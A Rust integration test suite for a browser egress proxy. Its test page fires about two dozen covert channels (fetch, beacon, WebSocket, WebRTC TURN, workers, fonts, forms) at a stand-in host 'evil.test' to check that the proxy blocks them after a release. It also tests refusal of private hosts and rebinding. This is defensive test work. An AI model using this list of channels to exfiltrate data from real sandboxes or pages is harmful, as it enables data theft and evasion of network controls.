//! A real browser behind the proxy: every kind of egress of a container, before and after a release.

use std::collections::BTreeSet;
use std::net::UdpSocket;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::extract::{Request, State};
use axum::http::header;
use axum::response::{IntoResponse, Response};
use portcullis::egress::proxy::{ConnectFailure, ConnectionRefusal, EgressProxy, Limits};
use portcullis::signals::playwright::{BridgeError, Browser, BrowserSettings, LoadFailure, Tab};
use portcullis::signals::{Container, Origin, Outline, TextGuard, TextWithheld};
use tokio::net::TcpListener;
use tokio_rustls::TlsAcceptor;

use crate::support::{Collector, proxy, say, soon, timeless};

/// Tries every kind of egress again and again. COLLECT is the collector, SECURE a port that only counts connections.
const PAGE: &str = r#"<!doctype html><title>Shop</title><h1>Welcome</h1>
<iframe name=sink></iframe><form id=form method=post target=sink action="http://COLLECT/form"><input name=a value=b></form>
<script>
const base = 'http://COLLECT/', quiet = (way) => { try { const p = way(); if (p && p.catch) p.catch(() => {}); } catch (e) {} };
const element = (name, attributes) => { const it = Object.assign(document.createElement(name), attributes); document.body.append(it); setTimeout(() => it.remove(), 600); };
let round = 0;
const all = () => {
  round += 1; const q = '?' + round;
  quiet(() => fetch('/alive' + q));
  quiet(() => fetch(base + 'fetch' + q, { mode: 'no-cors' }));
  quiet(() => fetch(base + 'keepalive' + q, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }));
  quiet(() => { const x = new XMLHttpRequest(); x.open('POST', base + 'xhr' + q); x.send('x'); });
  quiet(() => navigator.sendBeacon(base + 'beacon' + q, 'x'));
  quiet(() => { new Image().src = base + 'img' + q; });
  quiet(() => element('iframe', { src: base + 'iframe' + q }));
  quiet(() => element('script', { src: base + 'script' + q }));
  quiet(() => element('link', { rel: 'stylesheet', href: base + 'style' + q }));
  quiet(() => element('link', { rel: 'prefetch', href: base + 'prefetch' + q }));
  quiet(() => element('link', { rel: 'preload', as: 'image', href: base + 'preload' + q }));
  quiet(() => element('link', { rel: 'preconnect', href: 'https://evil.test:SECURE' }));
  quiet(() => element('link', { rel: 'dns-prefetch', href: 'https://evil.test:SECURE' }));
  quiet(() => element('video', { src: base + 'video' + q }));
  quiet(() => { document.body.style.backgroundImage = `url(${base}background${q})`; });
  quiet(() => new FontFace('f' + round, `url(${base}font${q})`).load());
  quiet(() => { const s = new WebSocket('ws://COLLECT/socket' + q); s.onopen = () => s.send('x'); });
  quiet(() => { new EventSource(base + 'events' + q); });
  quiet(() => form.submit());
  quiet(() => window.open(base + 'popup' + q));
  quiet(() => fetch('https://evil.test:SECURE/', { mode: 'no-cors' }));
  quiet(() => new WebTransport('https://evil.test:SECURE/transport'));
  quiet(() => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:DATAGRAMS' },
      { urls: 'turn:evil.test:RELAY?transport=tcp', username: 'a', credential: 'b' }] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    setTimeout(() => peer.close(), 1500);
  });
};
new Worker('/worker.js'); quiet(() => { new SharedWorker('/shared.js'); });
quiet(() => navigator.serviceWorker.register('/service.js'));
// Not before: each round loads frames and images, and on a slow machine the page would never have loaded.
addEventListener('load', () => { all(); setInterval(all, 800); });
</script>"#;

const WORKER: &str = "setInterval(() => { fetch('http://COLLECT/NAME', { mode: 'no-cors' }).catch(() => {}); }, 400);
try { setInterval(() => { const s = new WebSocket('ws://COLLECT/NAME-socket'); s.onopen = () => s.send('x'); }, 700); } catch (e) {}";

/// The kinds of egress that arrive at the collector before a release.
const WAYS: [&str; 24] = [
    "fetch",
    "keepalive",
    "xhr",
    "beacon",
    "img",
    "iframe",
    "script",
    "style",
    "prefetch",
    "preload",
    "video",
    "background",
    "font",
    "socket",
    "events",
    "form",
    "worker",
    "worker-socket",
    "shared",
    "shared-socket",
    "service",
    "service-socket",
    "relay",
    "secure",
];

struct Shop {
    page: String,
    worker: String,
    alive: Mutex<u64>,
}

async fn serve(State(shop): State<Arc<Shop>>, request: Request) -> Response {
    let script = |name: &str| {
        ([(header::CONTENT_TYPE, "text/javascript")], shop.worker.replace("NAME", name)).into_response()
    };
    match request.uri().path() {
        "/worker.js" => script("worker"),
        "/shared.js" => script("shared"),
        "/service.js" => script("service"),
        "/alive" => {
            *shop.alive.lock().unwrap() += 1;
            "ok".into_response()
        }
        "/bare" => ([(header::CONTENT_TYPE, "text/html")], "<h1>Bare</h1>".to_owned()).into_response(),
        _ => ([(header::CONTENT_TYPE, "text/html")], shop.page.clone()).into_response(),
    }
}

struct Scene {
    browser: Browser,
    shop: Arc<Shop>,
    shop_port: u16,
    collector: Collector,
    secure: Collector,
    relay: Collector,
    datagrams: UdpSocket,
}

impl Scene {
    async fn set_up() -> Scene {
        let collector = Collector::start(
            "HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        )
        .await;
        let (secure, relay) = (Collector::start("").await, Collector::start("").await);
        let datagrams = UdpSocket::bind("127.0.0.1:0").unwrap();
        datagrams.set_nonblocking(true).unwrap();
        let fill = |text: &str| {
            text.replace("COLLECT", &format!("evil.test:{}", collector.port))
                .replace("SECURE", &secure.port.to_string())
                .replace("RELAY", &relay.port.to_string())
                .replace("DATAGRAMS", &datagrams.local_addr().unwrap().port().to_string())
        };
        let shop = Arc::new(Shop { page: fill(PAGE), worker: fill(WORKER), alive: Mutex::new(0) });
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let shop_port = listener.local_addr().unwrap().port();
        let router = Router::new().fallback(serve).with_state(shop.clone());
        tokio::spawn(async move { axum::serve(listener, router).await });
        let path = std::env::var_os("PORTCULLIS_CHROMIUM").unwrap_or_else(|| "/usr/bin/chromium".into());
        let mut settings = BrowserSettings::new(PathBuf::from(path));
        settings.sandbox = evaluation::stage::sandbox();
        settings.private_hosts = vec!["shop.localhost".to_owned(), "evil.test".to_owned()];
        let browser = Browser::start(settings).await.expect("run `cargo xtask setup` first");
        Scene { browser, shop, shop_port, collector, secure, relay, datagrams }
    }

    async fn proxy(&self) -> EgressProxy {
        proxy(&["shop.localhost", "evil.test"], Limits::default()).await
    }

    fn origin(&self) -> Origin {
        Origin::parse(&format!("http://shop.localhost:{}", self.shop_port)).unwrap()
    }

    async fn open(&self, tab: &Tab, path: &str) -> Result<(), BridgeError> {
        tab.open(&format!("{}{path}", self.origin()).parse().unwrap()).await
    }

    /// The kinds that have arrived.
    fn arrived(&self) -> BTreeSet<String> {
        let mut ways: BTreeSet<String> = self
            .collector
            .arrived()
            .iter()
            .filter_map(|text| {
                text.split(' ').nth(1)?.split('?').next()?.strip_prefix('/').map(str::to_owned)
            })
            .collect();
        if self.relay.bytes() > 0 {
            ways.insert("relay".to_owned());
        }
        if !self.secure.arrived().is_empty() {
            ways.insert("secure".to_owned());
        }
        ways
    }

    /// Waits until all earlier connections are counted and closed.
    async fn is_quiet(&self) {
        for collector in [&self.collector, &self.secure, &self.relay] {
            collector.has_accepted_all().await;
            assert!(soon(|| collector.open() == 0).await, "a connection stayed open");
        }
    }

    fn connections(&self) -> [usize; 3] {
        [&self.collector, &self.secure, &self.relay].map(|it| it.arrived().len())
    }

    fn alive(&self) -> u64 {
        *self.shop.alive.lock().unwrap()
    }

    fn no_datagram(&self) {
        assert!(self.datagrams.recv_from(&mut [0; 64]).is_err(), "a datagram went round the proxy");
    }
}

struct Through;

impl TextGuard for Through {
    fn guard(&self, outline: &Outline) -> Result<String, TextWithheld> {
        Ok(outline.unfiltered())
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn all_egress_is_open_before_a_release_and_closed_after_it() {
    let scene = Scene::set_up().await;
    let proxy = scene.proxy().await;
    let tab = scene.browser.container_through(proxy.for_container(), Container::T0, &[]).await.unwrap();
    scene.open(&tab, "/").await.unwrap();
    let expected: BTreeSet<String> = WAYS.iter().map(|way| (*way).to_owned()).collect();
    for _ in 0..3 {
        if soon(|| scene.arrived().is_superset(&expected)).await {
            break;
        }
    }
    let arrived = scene.arrived();
    let missing: Vec<_> = expected.difference(&arrived).collect();
    assert!(missing.is_empty(), "these never came: {missing:?}");
    assert!(!arrived.contains("popup"), "the bridge refuses windows");
    scene.no_datagram();

    proxy.take_refused();
    proxy.narrow_to(&[scene.origin()]).await.unwrap();
    scene.is_quiet().await;
    let (connections, bytes, alive) = (scene.connections(), scene.collector.bytes(), scene.alive());
    tokio::time::sleep(Duration::from_secs(4)).await;
    let mut refused = 0;
    let tried = soon(|| {
        refused += proxy.take_refused();
        refused >= 20 && scene.alive() > alive + 2
    });
    assert!(
        tried.await,
        "the ways were tried and refused, not given up: {refused}; the page of the granted origin goes on: {} after {alive}",
        scene.alive()
    );
    assert_eq!(
        (scene.connections(), scene.collector.bytes()),
        (connections, bytes),
        "something still went out"
    );
    scene.no_datagram();
    scene.open(&tab, "/bare").await.unwrap();
    assert!(tab.read(&Through).await.unwrap().text.contains("Bare"));

    // Another container is not affected, and cannot be used to bypass the rule.
    let other = scene.proxy().await;
    let free = scene.browser.container_through(other.for_container(), Container::T0, &[]).await.unwrap();
    scene.open(&free, "/").await.unwrap();
    assert!(soon(|| scene.connections() > connections).await);
    free.close().await;
    scene.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_raised_container_goes_through_its_proxy_too() {
    let scene = Scene::set_up().await;
    let proxy = scene.proxy().await;
    let task = [scene.origin()];
    let tab = scene.browser.container_through(proxy.for_container(), Container::T2, &task).await.unwrap();
    scene.open(&tab, "/").await.unwrap();
    assert!(soon(|| scene.arrived().contains("fetch") && scene.alive() > 1).await, "{:?}", scene.arrived());
    let before = proxy.opened();
    assert!(before > 2);
    proxy.narrow_to(&task).await.unwrap();
    scene.is_quiet().await;
    let (connections, alive) = (scene.connections(), scene.alive());
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert!(soon(|| scene.alive() > alive).await, "the page goes on");
    assert_eq!(scene.connections(), connections);
    scene.no_datagram();
    scene.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pages_get_nothing_from_the_listener_and_no_private_host() {
    let scene = Scene::set_up().await;
    let (proxy, other) = (scene.proxy().await, scene.proxy().await);
    let tab = scene.browser.container_through(proxy.for_container(), Container::T0, &[]).await.unwrap();
    // First through its own proxy, to either listener.
    for address in [proxy.for_container().address(), other.for_container().address()] {
        let refused = tab.open(&format!("http://{address}/").parse().unwrap()).await;
        assert!(matches!(refused, Err(BridgeError::Refused(_))), "{refused:?}");
    }
    // A name resolves to this machine: the bridge cannot know that, and the proxy does.
    let port = scene.collector.port;
    let rebound = tab.open(&format!("http://rebound.test:{port}/").parse().unwrap()).await;
    assert_eq!(rebound, Err(BridgeError::Unreachable(LoadFailure::NoAnswer)));
    assert_eq!(scene.connections(), [0; 3]);
    let why = |address: &str| proxy.failure(&address.parse().unwrap());
    let private = Some(ConnectFailure::Refused(ConnectionRefusal::Private));
    assert_eq!(why(&format!("http://rebound.test:{port}/")), private, "for the guard alone");
    let silent = TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap().port();
    for (address, failure) in [
        ("https://nowhere.invalid/".to_owned(), ConnectFailure::NoName),
        ("https://shop.example:6667/".to_owned(), ConnectFailure::Refused(ConnectionRefusal::Port)),
        (format!("https://shop.localhost:{silent}/"), ConnectFailure::NoAnswer),
    ] {
        let opened = tab.open(&address.parse().unwrap()).await;
        assert!(
            matches!(opened, Err(BridgeError::Unreachable(LoadFailure::NoAnswer))),
            "{address}: {opened:?}"
        );
        // Chromium does not ask the proxy for a port that it refuses itself.
        assert!(why(&address) == Some(failure) || address.contains("6667"), "{address}: {:?}", why(&address));
    }
    proxy.forget_failures();
    assert_eq!(why("https://nowhere.invalid/"), None);

    // Then through a proxy that allows it, as from a page of another browser.
    let third = scene.proxy().await;
    let free = scene.browser.container_through(third.for_container(), Container::T0, &[]).await.unwrap();
    let port = other.for_container().address().port();
    let opened = free.open(&format!("http://shop.localhost:{port}/").parse().unwrap()).await;
    assert_eq!(
        opened,
        Err(BridgeError::Unreachable(LoadFailure::NoAnswer)),
        "an answer without a body is none"
    );
    let answer = say(&other, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n").await;
    assert!(timeless(&answer).ends_with("content-length: 0\n"), "{answer}");
    scene.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_container_whose_proxy_is_gone_goes_nowhere() {
    let scene = Scene::set_up().await;
    let proxy = scene.proxy().await;
    let tab = scene.browser.container_through(proxy.for_container(), Container::T0, &[]).await.unwrap();
    scene.open(&tab, "/bare").await.unwrap();
    let gone = proxy.for_container().clone();
    drop(proxy);
    assert_eq!(scene.open(&tab, "/bare").await, Err(BridgeError::Unreachable(LoadFailure::NoAnswer)));
    let container = scene.browser.container_through(&gone, Container::T0, &[]).await;
    assert!(container.is_err(), "a container that its proxy does not greet");
    scene.browser.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_certificate_that_is_not_trusted_is_told_from_a_server_that_speaks_no_tls() {
    let scene = Scene::set_up().await;
    let proxy = scene.proxy().await;
    let tab = scene.browser.container_through(proxy.for_container(), Container::T0, &[]).await.unwrap();
    let stranger = evaluation::tls::Authority::new().unwrap();
    let acceptor = TlsAcceptor::from(stranger.server_config(&["shop.localhost"]).unwrap());
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let _refused = acceptor.accept(stream).await;
        }
    });
    let open = async |port: u16| tab.open(&format!("https://shop.localhost:{port}/").parse().unwrap()).await;
    assert_eq!(open(port).await, Err(BridgeError::Unreachable(LoadFailure::Certificate)));
    assert_eq!(open(scene.shop_port).await, Err(BridgeError::Unreachable(LoadFailure::Tls)));
    assert_eq!(proxy.failure(&format!("https://shop.localhost:{port}/").parse().unwrap()), None);
    scene.browser.close().await;
}
